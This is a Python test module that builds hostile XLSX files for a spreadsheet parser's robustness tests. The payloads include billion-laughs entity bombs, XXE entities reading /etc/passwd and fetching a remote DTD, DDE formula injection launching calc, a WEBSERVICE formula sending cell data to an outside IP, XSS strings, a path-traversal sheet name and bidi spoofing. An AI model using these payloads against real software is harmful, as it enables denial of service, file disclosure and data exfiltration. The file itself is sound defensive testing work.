"""Hostile parts of sound packages: XML that explodes, cells that lie about their place, kind, style or text."""

from tests.hostile.kit import (
    HEAD,
    LEDGER,
    MAIN,
    RELATED,
    ROW,
    XML,
    book,
    cell,
    extra,
    links,
    parts,
    rows,
    sheet,
    styles,
    xlsx,
)

SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = '<!DOCTYPE l [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">' + "".join(
    f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefghi", "bcdefghij", strict=True)
) + "]>"  # fmt: skip
OUTSIDE = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://192.0.2.1/x.dtd">%y;]>'


def _typed(part, doctype, text=""):
    """The package with a document type before the root of one part, and perhaps an entity in its text."""
    xml = parts()[part]
    xml = xml.replace(XML, XML + doctype, 1)
    return xlsx({part: xml.replace("文澜第一针织厂", text) if text else xml})


def _far(*places):
    return xlsx(sheet=sheet("".join(f'<row r="{row}">{cell(place, 1)}</row>' for row, place in places)))


def _ledger_cell(place, value, kind=None, more=""):
    return xlsx(sheet=extra(cell(place, value, kind, more)))


def _shared(index):
    return xlsx(sheet=extra(cell("B3", index, "s")))


def _strings(body, head=""):
    return xlsx(strings=f'{XML}<sst xmlns="{MAIN}"{head}>{body}</sst>', sheet=extra(cell("B3", 0, "s")))


def _styled(value, code):
    """A ledger whose last cell is a number under a custom format."""
    return xlsx(
        styles=styles(f'<numFmt numFmtId="164" formatCode="{code}"/>'), sheet=extra(cell("E3", value, more=' s="2"'))
    )


def _merged(*ranges):
    listed = "".join(f'<mergeCell ref="{one}"/>' for one in ranges)
    return xlsx(sheet=sheet(after=f'<mergeCells count="{len(ranges)}">{listed}</mergeCells>'))


def _named(*names):
    return xlsx(book=book(names, links=["rId1"] * len(names)))


def _formula(formula, value="<v>50</v>", kind=""):
    return xlsx(sheet=sheet(rows(HEAD) + f'<row r="2">{"".join(cell(f"{c}2", v) for c, v in zip("ABCD", ROW, strict=False))}'
        f'<c r="E2"{kind}>{formula}{value}</c>{cell("F2", "是")}</row>'))  # fmt: skip


def _deep(levels):
    return sheet(after="<a>" * levels + "</a>" * levels)


def _encoded(part, encoding, declared=None):
    xml = parts()[part].replace('encoding="UTF-8"', f'encoding="{declared or encoding}"')
    return xlsx({part: xml.encode(encoding)})


BOMBS = {
    **{f"laughs in {part}": (lambda part=part: _typed(part, LAUGHS, "&j;")) for part in parts()},
    **{f"a file from outside in {part}": (lambda part=part: _typed(part, OUTSIDE, "&x;")) for part in parts()},
    "a document type behind a long comment": lambda: _typed(SHEET, f"<!--{' ' * 9000}-->{LAUGHS}", "&j;"),
    "a document type of the workbook behind a long comment": lambda: _typed("xl/workbook.xml", f"<!--{' ' * 9000}-->{LAUGHS}"),
    "a document type in UTF-16": lambda: xlsx({SHEET: (XML + LAUGHS + sheet().removeprefix(XML)).replace("UTF-8", "UTF-16").encode("utf-16")}),
    "a document type in small letters": lambda: _typed(SHEET, LAUGHS.replace("DOCTYPE", "doctype"), "&j;"),
    "a document type in unneeded custom XML": lambda: xlsx({"customXml/item1.xml": f"{XML}{LAUGHS}<l>&j;</l>"}),
    "100,000 levels in a sheet": lambda: xlsx(sheet=_deep(100_000)),
    "100,000 levels in the workbook": lambda: xlsx(book=book(after="<a>" * 100_000 + "</a>" * 100_000)),
    "100,000 levels in the strings": lambda: _strings("<si>" * 100_000 + "</si>" * 100_000),
    "1,000,000 levels never closed": lambda: xlsx(sheet=sheet(after="<a>" * 1_000_000)),
    "an attribute of 20 MB": lambda: xlsx(sheet=sheet(after=f'<x y="{"a" * 20 * 2**20}"/>')),
    "an attribute of 20 MB in the workbook": lambda: xlsx(book=book(after=f'<x y="{"a" * 20 * 2**20}"/>')),
    "100,000 attributes": lambda: xlsx(sheet=sheet(after="<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")),
    "one attribute twice": lambda: xlsx(sheet=sheet().replace('r="A1"', 'r="A1" r="B1"')),
    "a tag of 10 MB": lambda: xlsx(sheet=sheet(after=f"<{'a' * 10 * 2**20}/>")),
    "a comment of 20 MB": lambda: xlsx(sheet=sheet(after=f"<!--{'-=' * 10 * 2**20}-->")),
    "100,000 processing instructions": lambda: xlsx(sheet=sheet(after="<?php x ?>" * 100_000)),
    "bytes that are no UTF-8": lambda: xlsx({SHEET: sheet().encode().replace("针织".encode(), b"\xff\xfe\x80")}),
    "a sheet in UTF-16": lambda: _encoded(SHEET, "utf-16"),
    "a sheet in UTF-16 without a mark": lambda: _encoded(SHEET, "utf-16-le"),
    "a sheet in GB18030": lambda: _encoded(SHEET, "gb18030"),
    "a sheet in UTF-7": lambda: _encoded(SHEET, "utf-7"),
    "a workbook in GB18030": lambda: _encoded("xl/workbook.xml", "gb18030"),
    "an encoding that does not exist": lambda: _encoded(SHEET, "utf-8", "x-none"),
    "a NUL by its number": lambda: _ledger_cell("B3", "甲&#0;乙"),
    "half a surrogate by its number": lambda: _ledger_cell("B3", "甲&#xD800;乙"),
    "an entity that nobody declared": lambda: _ledger_cell("B3", "甲&nbsp;乙"),
    "a NUL in the text": lambda: xlsx({SHEET: sheet().replace("针织", "\x00")}),
    "control characters": lambda: xlsx({SHEET: sheet().replace("针织", "\x01\x08\x1b[31m")}),
    "control characters as Excel writes them": lambda: _ledger_cell("B3", "_x0000__x001B_[31m甲"),
    "another prefix for everything": lambda: xlsx(sheet=sheet().replace("<", "<x:").replace("<x:/", "</x:").replace("<x:?", "<?").replace("xmlns=", "xmlns:x=")),
    "no namespace at all": lambda: xlsx(sheet=sheet().replace(f' xmlns="{MAIN}"', "")),
    "a namespace of somebody else": lambda: xlsx(sheet=sheet().replace(MAIN, "urn:other")),
    "CDATA in place of text": lambda: _ledger_cell("B3", "<![CDATA[甲<b>乙]]>"),
    "text with tags": lambda: _ledger_cell("B3", "甲<b>乙</b>"),
    "an empty part": lambda: xlsx({SHEET: ""}),
    "a part of spaces": lambda: xlsx({SHEET: " " * 4096}),
    "a part of NULs": lambda: xlsx({SHEET: bytes(4096)}),
    "a sheet that breaks off": lambda: xlsx({SHEET: sheet()[:-60]}),
    "two roots": lambda: xlsx({SHEET: sheet() + sheet().removeprefix(XML)}),
    "HTML in place of a sheet": lambda: xlsx({SHEET: "<html><body><table><tr><td>统计编码"}),
}  # fmt: skip
GRIDS = {
    "the two far corners": lambda: _far((1, "A1"), (1_048_576, "XFD1048576")),
    "the last row alone": lambda: _far((1_048_576, "A1048576")),
    "the last column alone": lambda: _far((1, "XFD1")),
    "a diagonal": lambda: xlsx(sheet=sheet("".join(f'<row r="{n}"><c r="{_letters(n)}{n}"><v>1</v></c></row>' for n in range(1, 16_385)))),
    "a ledger with a cell in the far corner": lambda: xlsx(sheet=extra(cell("XFD1048576", "注：备用"), row=1_048_576)),
    "a ledger with far columns": lambda: xlsx(sheet=sheet(LEDGER + "".join(f'<row r="{n}">{cell(f"XFD{n}", 1)}</row>' for n in range(3, 3_000)))),
    "row 0": lambda: _far((0, "A0")),
    "row -1": lambda: _far((-1, "A-1")),
    "row 1,048,577": lambda: _far((1_048_577, "A1048577")),
    "row 99,999,999": lambda: _far((99_999_999, "A99999999")),
    "row 4,294,967,297": lambda: _far((4_294_967_297, "A4294967297")),
    "row 10^30": lambda: _far((10**30, f"A{10**30}")),
    "a row number that is a word": lambda: _far(("eins", "A1")),
    "column XFE": lambda: _far((1, "XFE1")),
    "column ZZZ": lambda: _far((1, "ZZZ1")),
    "column AAAAAAAAAAAA": lambda: _far((1, "AAAAAAAAAAAA1")),
    "places in small letters": lambda: xlsx(sheet=sheet().replace('r="B2"', 'r="b2"')),
    "places with dollars": lambda: xlsx(sheet=sheet().replace('r="B2"', 'r="$B$2"')),
    "places as R2C2": lambda: xlsx(sheet=sheet().replace('r="B2"', 'r="R2C2"')),
    "empty places": lambda: xlsx(sheet=sheet().replace('r="B2"', 'r=""')),
    "no places at all": lambda: xlsx(sheet=sheet("".join(f"<row>{''.join(cell('', v) for v in line)}</row>" for line in (HEAD, ROW)))),
    "some rows without a number": lambda: xlsx(sheet=sheet().replace('<row r="2">', "<row>")),
    "cells that contradict their row": lambda: xlsx(sheet=sheet().replace('<row r="2">', '<row r="7">')),
    "one cell twice": lambda: xlsx(sheet=sheet(rows(HEAD) + f'<row r="2">{"".join(cell(f"{c}2", v) for c, v in zip("ABCDEF", ROW, strict=True))}{cell("E2", 999)}</row>')),
    "one row twice": lambda: xlsx(sheet=sheet(LEDGER + rows(("002", *ROW[1:]), first=2))),
    "rows from the last to the first": lambda: xlsx(sheet=sheet(rows(ROW, first=2) + rows(HEAD))),
    "cells from the last to the first": lambda: xlsx(sheet=sheet(rows(HEAD) + f'<row r="2">{"".join(cell(f"{c}2", v) for c, v in list(zip("ABCDEF", ROW, strict=True))[::-1])}</row>')),
    "300,000 empty rows": lambda: xlsx(sheet=sheet(LEDGER + "".join(f'<row r="{n}"/>' for n in range(3, 300_000)))),
    "300,000 rows of formats only": lambda: xlsx(sheet=sheet(LEDGER + "".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(3, 300_000)))),
    "40,000 columns": lambda: xlsx(sheet=sheet(LEDGER + f'<row r="3">{"<c><v>1</v></c>" * 40_000}</row>')),
    "16,384 header cells": lambda: xlsx(sheet=sheet(f'<row r="1">{"".join(cell("", f"列{n}") for n in range(16_384))}</row>' + rows(ROW, first=2))),
    "a row in a row": lambda: xlsx(sheet=sheet(f'<row r="1"><row r="2">{cell("A2", 1)}</row></row>')),
    "a cell in a cell": lambda: xlsx(sheet=sheet('<row r="1"><c r="A1"><c r="B1"><v>1</v></c><v>2</v></c></row>')),
    "a dimension of the whole grid": lambda: xlsx(sheet=sheet(before='<dimension ref="A1:XFD1048576"/>')),
    "a dimension of nonsense": lambda: xlsx(sheet=sheet(before='<dimension ref="ZZZZ0:A-1"/>')),
    "a million columns described": lambda: xlsx(sheet=sheet(before='<cols><col min="1" max="4294967295" hidden="1" width="1e308"/></cols>')),
    "100,000 merged ranges": lambda: _merged(*(f"A{n}:B{n}" for n in range(3, 100_003))),
    "the whole grid merged": lambda: _merged("A1:XFD1048576"),
    "1,000 times the whole grid merged": lambda: _merged(*["A1:XFD1048576"] * 1_000),
    "merged ranges over one another": lambda: _merged(*(f"A1:{_letters(n)}{n}" for n in range(2, 3_000))),
    "merged the wrong way round": lambda: _merged("F2:A1"),
    "merged nonsense": lambda: _merged("A0:ZZZZ99999999", "x", "", ":", "A1:"),
}  # fmt: skip
CELLS = {
    "a string's number out of range": lambda: _shared(999_999),
    "a string's number below zero": lambda: _shared(-1),
    "a string's number that is a word": lambda: _shared("eins"),
    "a string's number of 10^30": lambda: _shared(10**30),
    "strings that lie about their count": lambda: _strings("<si><t>甲</t></si>", ' count="4294967295" uniqueCount="4294967295"'),
    "strings counted below zero": lambda: _strings("<si><t>甲</t></si>", ' count="-1" uniqueCount="-1"'),
    "one string of 60 MB": lambda: _strings(f"<si><t>{'甲' * 20 * 2**20}</t></si>"),
    "400,000 empty strings": lambda: _strings("<si/>" * 400_000),
    "200,000 runs in one string": lambda: _strings(f"<si>{'<r><rPr><b/></rPr><t>甲</t></r>' * 200_000}</si>"),
    "strings in strings": lambda: _strings("<si><si><t>甲</t></si></si>"),
    "a text of 5 MB in a ledger": lambda: _ledger_cell("B3", "甲" * 5 * 2**20),
    "a text of 5 MB in each cell of a row": lambda: xlsx(sheet=sheet(LEDGER + rows(["甲" * 2**20] * 6, first=3))),
    "a header of 5 MB": lambda: xlsx(sheet=sheet(rows((*HEAD, "甲" * 5 * 2**20), ROW))),
    "a kind of cell that does not exist": lambda: _ledger_cell("E3", 5, "zzz"),
    "an error that does not exist": lambda: _ledger_cell("E3", "#HÄ?", "e"),
    "a truth of 2": lambda: _ledger_cell("F3", 2, "b"),
    "a date that is none": lambda: _ledger_cell("E3", "2026-02-31T25:61:00", "d"),
    "a date of the year 292277026596": lambda: _ledger_cell("E3", "292277026596-01-01", "d"),
    **{f"a number {word}": (lambda word=word: _ledger_cell("E3", word, "n")) for word in
       ("NaN", "INF", "-INF", "1e308", "1e999", "-1e999", "abc", "0x10", "１２", "1_000", "1e-400", " ", "--1", "9" * 5000)},
    **{f"a day {word}": (lambda word=word: _ledger_cell("E3", word, "n", ' s="1"')) for word in
       ("NaN", "INF", "1e308", "-1", "0", "60", "2958466", "1e15", "-1e308")},
    "a style out of range": lambda: _ledger_cell("E3", 5, "n", ' s="999999"'),
    "a style below zero": lambda: _ledger_cell("E3", 5, "n", ' s="-1"'),
    "a style that is a word": lambda: _ledger_cell("E3", 5, "n", ' s="eins"'),
    "styles that lie about their count": lambda: xlsx(styles=styles(count=4_294_967_295)),
    "200,000 styles": lambda: xlsx(styles=styles(xfs='<xf numFmtId="0"/>' * 200_000)),
    "100,000 formats": lambda: xlsx(styles=styles('<numFmt numFmtId="164" formatCode="yyyy"/>' * 100_000)),
    "a format number of 10^30": lambda: xlsx(styles=styles(f'<numFmt numFmtId="{10**30}" formatCode="yyyy"/>')),
    "a format of brackets": lambda: _styled(45_000, "[" * 100_000),
    "a format of quotes": lambda: _styled(45_000, "&quot;\\" * 50_001),
    "a format of a million years": lambda: _styled(45_000, "yyyy" * 250_000),
    "a format of nothing": lambda: _styled(45_000, ""),
    "inline text without text": lambda: xlsx(sheet=extra('<c r="B3" t="inlineStr"/><c r="C3" t="inlineStr"><is/></c>')),
    "a value without a value": lambda: xlsx(sheet=extra('<c r="E3"><v/></c><c r="F3" t="s"><v></v></c>')),
    "two values in a cell": lambda: xlsx(sheet=extra('<c r="E3"><v>5</v><v>6</v></c>')),
    "a formula that starts a program": lambda: _formula("<f>cmd|'/C calc'!A0</f>"),
    "a formula that asks another machine": lambda: _formula('<f>WEBSERVICE("http://192.0.2.1/"&amp;A2)</f>', "<v>50</v>"),
    "a formula to another workbook": lambda: _formula("<f>[1]台账!$A$1</f>"),
    "a formula without a result": lambda: _formula("<f>SUM(A1:A9)</f>", ""),
    "a formula of 8 MB": lambda: _formula(f"<f>{'1+' * 4 * 2**20}1</f>"),
    "a shared formula without its master": lambda: _formula('<f t="shared" si="4294967295"/>'),
    "a shared formula over the whole grid": lambda: _formula('<f t="shared" ref="A1:XFD1048576" si="0">A1</f>'),
    "an array formula over the whole grid": lambda: _formula('<f t="array" ref="A1:XFD1048576">A1</f>'),
    "a formula in a circle": lambda: _formula("<f>E2</f>", "<v>0</v>"),
    "text that a spreadsheet would run": lambda: _ledger_cell("B3", "=cmd|'/C calc'!A0"),
    "text that a page would run": lambda: _ledger_cell("B3", "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"),
    "text that turns round": lambda: _ledger_cell("B3", "甲\u202exslx.厂\u202c\u200b\ufeff"),
    "300,000 hyperlinks": lambda: xlsx(sheet=sheet(after="<hyperlinks>" + '<hyperlink ref="A1" r:id="rId1"/>' * 300_000 + "</hyperlinks>")),
    "100,000 rules of validation": lambda: xlsx(sheet=sheet(after="<dataValidations>" + '<dataValidation sqref="A1:XFD1048576"/>' * 100_000 + "</dataValidations>")),
    "100,000 conditional formats": lambda: xlsx(sheet=sheet(after='<conditionalFormatting sqref="A1:XFD1048576"/>' * 100_000)),
}  # fmt: skip
SHEETS = {
    "20,000 sheets that are one": lambda: _named(*(f"表{n}" for n in range(20_000))),
    "2,000 sheets": lambda: xlsx({f"xl/worksheets/sheet{n}.xml": sheet() for n in range(1, 2_001)},
        book=book([f"表{n}" for n in range(1, 2_001)]), links=links(*(f"worksheets/sheet{n}.xml" for n in range(1, 2_001)))),
    "20,000 sheets of one name": lambda: _named(*["台账"] * 20_000),
    "no sheet": lambda: _named(),
    "a sheet of no name": lambda: _named(""),
    "a sheet of a blank name": lambda: _named("   "),
    "a sheet with a NUL in its name": lambda: _named("甲&#0;乙"),
    "a sheet with a line in its name": lambda: _named("甲&#10;&#13;乙"),
    "a sheet named from right to left": lambda: _named("\u202e账台业企\u202c\u2066"),
    "a sheet named like a path": lambda: _named("../../../../etc/passwd"),
    "a sheet named like an address": lambda: _named("[点这里](javascript:alert(1)) **粗** $x$ :red[x]"),
    "a sheet named like a page": lambda: _named("&lt;script&gt;alert(1)&lt;/script&gt;"),
    "a sheet named at length": lambda: _named("台账" * 250),
    "a sheet named at great length": lambda: _named("台" * 2**20),
    "a sheet named like our own": lambda: _named("_unionplan"),
    "sheets of one number": lambda: xlsx(book=book(("甲", "乙")).replace('sheetId="2"', 'sheetId="1"')),
    "a sheet of an unknown relation": lambda: xlsx(book=book(links=["rId999"])),
    "a sheet of no relation": lambda: xlsx(book=book().replace(' r:id="rId1"', "")),
    "a sheet in an unknown state": lambda: xlsx(book=book().replace("<sheet ", '<sheet state="gone" ')),
    "all sheets hidden": lambda: xlsx(book=book().replace("<sheet ", '<sheet state="veryHidden" ')),
    "a chart in place of a sheet": lambda: xlsx({"xl/chartsheets/sheet1.xml": f'{XML}<chartsheet xmlns="{MAIN}"/>'},
        links=links("chartsheets/sheet1.xml").replace(f"{RELATED}/worksheet", f"{RELATED}/chartsheet")),
    "a sheet of macros": lambda: xlsx({"xl/macrosheets/sheet1.xml": f'{XML}<macrosheet xmlns="{MAIN}"/>'}, links=links("macrosheets/sheet1.xml")),
    "a workbook of another time": lambda: xlsx(book=book(after='<workbookPr date1904="maybe"/>')),
}  # fmt: skip
FILES = {name: ("台账2026年10月.xlsx", make) for name, make in {**BOMBS, **GRIDS, **CELLS, **SHEETS}.items()}


def _letters(number):
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text
